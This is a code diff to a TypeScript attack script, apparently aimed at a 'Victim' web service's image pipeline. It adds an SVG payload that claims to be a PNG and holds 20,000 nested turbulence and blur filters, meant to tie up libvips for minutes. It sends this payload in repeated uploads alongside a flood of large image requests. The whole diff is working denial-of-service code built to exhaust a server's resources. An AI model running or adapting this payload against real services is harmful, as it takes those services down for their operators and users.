@@ -201,6 +201,13 @@ async function manySockets({ origin, token }: Victim, over: AbortSignal): Promis
   for (const one of [socket, ...(await idle)]) one.terminate();
 }
 
+/** Filters inside each other take libvips minutes, should it ever see this. Announced as a PNG. */
+const slowSvg = Buffer.from(
+  `<svg xmlns="http://www.w3.org/2000/svg" width="9000" height="5000"><filter id="f">${'<feTurbulence baseFrequency="0.9" numOctaves="9"/><feGaussianBlur stdDeviation="90"/>'.repeat(
+    20_000,
+  )}</filter><rect width="9000" height="5000" filter="url(#f)"/></svg>`,
+);
+
 async function heavyPictures(victim: Victim, over: AbortSignal): Promise<void> {
   const { origin } = victim;
   await insist(over, () => openMenu(victim));
@@ -244,12 +251,12 @@ async function heavyPictures(victim: Victim, over: AbortSignal): Promise<void> {
     );
   };
   const tent = (round: number) =>
-    fetch(`${code}.png?layout=tent&size=${4_000 - (round % 100)}`, {
+    fetch(`${code}.png?layout=tent&size=${4_000 - (round % 100)}&logo=${round % 2}`, {
       signal: AbortSignal.timeout(patience),
     }).then((response) => response.arrayBuffer());
   const uploads = async () => {
     const picture = await sharp(white).png({ compressionLevel: 9 }).toBuffer();
-    await repeat(4, over, () => upload(picture));
+    await repeat(4, over, (round) => upload(round % 2 === 0 ? picture : slowSvg));
   };
   await Promise.all([repeat(30, over, tent), uploads()]);
 }
